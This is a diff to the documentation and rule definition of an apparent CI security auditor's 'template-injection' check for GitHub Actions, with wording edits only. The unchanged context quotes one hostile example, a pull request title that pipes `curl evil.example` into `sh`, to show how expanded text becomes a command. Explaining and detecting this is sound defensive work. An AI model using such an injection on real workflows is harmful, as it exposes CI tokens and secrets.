@@ -4,12 +4,12 @@
 
 GitHub replaces `${{ ... }}` in a script by its value and then hands the result to the shell. A pull
 request titled `"; curl evil.example | sh; "` is then no longer a title but a command, and it runs with
-the job's token and secrets. Quotes don't help: the text brings its own. It is the same when the text
-takes a detour through `env` expressions, step and job outputs, a matrix, or an action's inputs.
+the job's token and secrets. Quotes don't help: the text has its own. It is the same when the text takes a
+detour through `env` expressions, step and job outputs, a matrix, or an action's inputs.
 
 How bad it is depends on who writes the text and what the run may do: an outsider's text in a run with a
 token that may write or secrets is critical, the same in a fork's own pull request (read-only token, no
-secrets) is low, and a text that needs write access to choose lies between.
+secrets) is low, and a text that only people with write access choose lies between.
 
 ## Bad
 
@@ -68,7 +68,7 @@ from auditor.api import Confidence, Facts, Hit, Severity, Step, Verdict, rule
 @rule(
     Step,
     id="template-injection",
-    title="Somebody's text is expanded into a script",
+    title="Untrusted text is expanded into a script",
     severity=Severity.CRITICAL,
     cwe=94,
     owasp="CICD-SEC-4",
